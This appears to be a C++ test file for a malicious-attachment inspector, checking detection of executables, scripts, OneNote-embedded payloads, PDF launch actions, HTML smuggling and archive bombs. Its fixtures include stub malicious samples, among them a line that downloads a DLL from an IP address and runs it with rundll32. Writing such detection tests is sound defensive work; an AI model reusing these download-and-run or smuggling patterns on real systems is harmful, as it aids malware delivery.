#include "support/inspected.h"
#include "support/zip_builder.h"

#include <catch2/catch.hpp>

using namespace keneki;
using namespace keneki::test;
using evidence::Finding;
using evidence::NotInspected;
using namespace std::string_literals;

namespace {
std::string gzip(std::string_view data) {
    return deflated(data, 15 + 16);
}

std::string tar_member(std::string_view name, std::string_view data) {
    std::string header(512, '\0');
    header.replace(0, name.size(), name);
    std::string size(11, '0');
    for (std::size_t value = data.size(), i = 11; value > 0; value /= 8)
        size[--i] = static_cast<char>('0' + value % 8);
    header.replace(124, 11, size);
    header[156] = '0';
    header.replace(257, 5, "ustar");
    std::string body(data);
    body.resize((data.size() + 511) / 512 * 512, '\0');
    return header + body;
}

const std::string onenote_head("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3",
                               16);
std::string onenote_file(std::string_view payload, std::uint32_t claimed) {
    std::string out("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", 16);
    put32(out, claimed);
    put32(out, 0);
    return out + std::string(12, '\0') + std::string(payload);
}
} // namespace

TEST_CASE("each kind of carrier has its name", "[inspect][carriers]") {
    struct Case {
        std::string name, content;
        Finding::Id id;
    };
    const auto c = GENERATE(values<Case>({
        {"a.bin", "MZ\x90\0"s + std::string(80, '\0'), Finding::EXECUTABLE},
        {"a.txt", "@echo off\r\nstart calc\r\n", Finding::SCRIPT},
        {"a.js", "hello", Finding::SCRIPT},
        {"a.chm", "ITSF\3", Finding::SCRIPT},
        {"a", "L\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"s + std::string(60, '\0'),
         Finding::SHORTCUT},
        {"a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/a\r\n", Finding::INTERNET_SHORTCUT},
        {"a.dat", std::string(32769, '\0') + "CD001" + std::string(64, '\0'), Finding::DISK_IMAGE},
        {"a.one", onenote_head, Finding::ONENOTE},
        {"a.html", "<html>hello</html>", Finding::HTML_ATTACHMENT},
        {"a.svg", "<svg onload=\"x()\"/>", Finding::SVG_SCRIPT},
        {"a.rtf", "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", Finding::RTF_OBJECT},
        {"a.rtf", "{\\rtf1{\\*\\template http://example.test/x.dotm}}",
         Finding::OFFICE_EXTERNAL_TEMPLATE},
        {"a.pdf", "%PDF-1.4 1 0 obj << /Type/Action/S/L#61unch >>", Finding::PDF_LAUNCH},
        {"a.pdf", "%PDF-1.4 1 0 obj <</OpenAction <</S /J#61vaScript>> >>", Finding::PDF_ACTION},
        {"a.pdf", "%PDF-1.4 trailer << /Encrypt 5 0 R >>", Finding::PDF_ENCRYPTED},
        {"a.slk", "ID;PWXL;N;E\nO;L;D;V0;K47;G100 0.001;E\nE\n", Finding::MACRO_EXCEL4},
        {"a.docx", "\x01\x02\x03\0garbage"s, Finding::OFFICE_CORRUPT},
        {"a.zip", "this is no archive", Finding::ARCHIVE_CORRUPT},
    }));
    const auto evidence = inspected(c.name, c.content);
    CAPTURE(c.name, c.content.substr(0, 60), words(evidence));
    CHECK(has(evidence, c.id, 1));
}

TEST_CASE("harmless files have no findings", "[inspect][carriers]") {
    struct Case {
        std::string name, content;
    };
    const auto c = GENERATE(values<Case>({
        {"memo.txt", "ご確認をお願いします。"},
        {"logo.svg", "<svg xmlns=\"x\"><path d=\"M0 0\"/></svg>"},
        {"letter.rtf", "{\\rtf1\\ansi hello}"},
        {"letter.rtf", "{\\rtf1{\\*\\template c:\\\\office\\\\normal.dot}hello}"},
        {"form.pdf", "%PDF-1.4 /AcroForm /URI (http://example.test)"},
        {"data.csv", "ID;name\n1;a\n"},
        {"photo.jpg", "\xFF\xD8\xFF\xE0 picture"},
        {"movie.mp4", "\0\0\0\x18"
                      "ftypmp42\0\0"s},
    }));
    const auto evidence = inspected(c.name, c.content);
    CAPTURE(c.name, words(evidence));
    CHECK(evidence.findings_size() == 0);
    CHECK(evidence.not_inspected_size() == 0);
}

TEST_CASE("files in OneNote are looked into, pictures are ordinary", "[inspect][onenote]") {
    const std::string script = "@echo off\r\nstart calc\r\n";
    const auto evil = inspected("a.one", onenote_head + onenote_file(script, 23));
    CHECK(has(evil, Finding::ONENOTE_EMBEDDED_SCRIPT, 1));
    CHECK(has(evil, Finding::SCRIPT, 2));
    CHECK_FALSE(has(inspected("a.one", onenote_head + onenote_file("\x89PNG\r\n\x1A\n", 8)),
                    Finding::ONENOTE_EMBEDDED_SCRIPT));
    // A length beyond the file is cut to the file.
    CHECK(has(inspected("a.one", onenote_head + onenote_file(script, 0xFFFFFFFFU)),
              Finding::ONENOTE_EMBEDDED_SCRIPT, 1));
}

TEST_CASE("what a file in OneNote begins with says that it runs", "[inspect][onenote]") {
    struct Case {
        std::string payload;
        bool runs;
    };
    const auto c = GENERATE(values<Case>({
        {"echo off\r\ncls\r\n", true},
        {"rem abc\r\nstart /min calc.exe\r\n", true},
        {"' hello\r\nExecute(Chr(65))\r\n", true},
        {"Start-Process calc", true},
        {"try{(function(){var _0x=0;})()}catch(e){}", true},
        {"curl -o a.dll http://192.0.2.1/a & rundll32 a.dll,x", true},
        {"\x1F\x8B\x08\0"s + std::string(20, '\0'), true},
        {"MSCF\0\0\0\0"s + std::string(100, '\0'), true},
        {"Rar!\x1A\x07\0"s + std::string(20, '\0'), true},
        {"hello world", false},
        {"remarks of the meeting", false},
        {"\xFF\xD8\xFF\xE0\0\x10JFIF\0"s + std::string(50, '\0'), false},
    }));
    CAPTURE(c.payload);
    const auto evidence = inspected(
        "a.one",
        onenote_head + onenote_file(c.payload, static_cast<std::uint32_t>(c.payload.size())));
    CHECK(has(evidence, Finding::ONENOTE_EMBEDDED_SCRIPT, 1) == c.runs);
}

TEST_CASE("smuggling needs signs that belong together", "[inspect][html]") {
    const auto smuggles = [](std::string_view body) {
        return has(inspected("a.html", "<html><script>" + std::string(body) + "</script></html>"),
                   Finding::HTML_SMUGGLING, 1);
    };
    CHECK(smuggles("var b=new Blob([atob('UEsDBBQ')]);"));
    CHECK(smuggles("x.href=URL.createObjectURL(y); x.download='a.zip';"));
    CHECK(smuggles("d=atob('" + std::string(20'001, 'A') + "')"));
    CHECK_FALSE(smuggles("d=atob('" + std::string(19'999, 'A') + "')"));
    CHECK_FALSE(smuggles("console.log(atob('aGVsbG8='));"));
    CHECK_FALSE(has(inspected("a.html", "<html><img src=\"data:image/png;base64," +
                                            std::string(30'000, 'A') + "\"></html>"),
                    Finding::HTML_SMUGGLING));
}

TEST_CASE("gzip and tar are opened within the budget", "[inspect][archives]") {
    const std::string program = "MZ\x90\0"s + std::string(80, '\0');
    const auto packed = inspected("a.exe.gz", gzip(program));
    CHECK(packed.parts(1).name() == "a.exe");
    CHECK(has(packed, Finding::EXECUTABLE, 2));
    CHECK(has(packed, Finding::ARCHIVE_DANGEROUS_MEMBER, 1));
    const auto bomb = inspected("a.gz", gzip(std::string(1'000'000, '\0')), 1'000);
    CHECK(has(bomb, Finding::ARCHIVE_BOMB, 1));
    CHECK(unread(bomb, NotInspected::OVER_LIMIT));
    const auto cut = inspected("a.gz", gzip(program).substr(0, 15));
    CHECK(has(cut, Finding::ARCHIVE_CORRUPT, 1));
    const std::string tar =
        tar_member("a.txt", "hello") + tar_member("b.exe", program) + std::string(1024, '\0');
    const auto tape = inspected("a.tar", tar);
    CAPTURE(words(tape));
    CHECK(tape.parts_size() == 3);
    CHECK(has(tape, Finding::EXECUTABLE, 3));
    const auto both = inspected("a.tgz", gzip(tar));
    CHECK(has(both, Finding::EXECUTABLE));
}

TEST_CASE("long and Japanese names of tape archives are read", "[inspect][archives]") {
    const std::string end(1024, '\0');
    std::string split = tar_member("b.exe", "MZ");
    split.replace(257, 8, "ustar\00000"s);
    split.replace(345, 6, "folder");
    CHECK(inspected("a.tar", split + end).parts(1).name() == "folder/b.exe");
    std::string pax = tar_member("x", "17 path=long.txt\n");
    pax[156] = 'x';
    CHECK(inspected("a.tar", pax + tar_member("b", "hello") + end).parts(1).name() == "long.txt");
    CHECK(inspected("a.tar", tar_member("\x90\xBF\x8B\x81.txt", "hello") + end).parts(1).name() ==
          "請求.txt");
}

TEST_CASE("the time of a message ends its inspection and says so", "[inspect][limits]") {
    evidence::InspectionRequest request;
    request.set_kind(evidence::InspectionRequest::FILE);
    request.set_file_name("a.exe");
    request.set_time_limit_ms(1); // four fifths of it are no time at all
    const std::string content = "MZ";
    const auto evidence = inspect::inspect(request, std::as_bytes(std::span(content)));
    CHECK(has(evidence, Finding::EXECUTABLE, 1)); // by name
    CHECK(unread(evidence, NotInspected::TIMED_OUT));
}
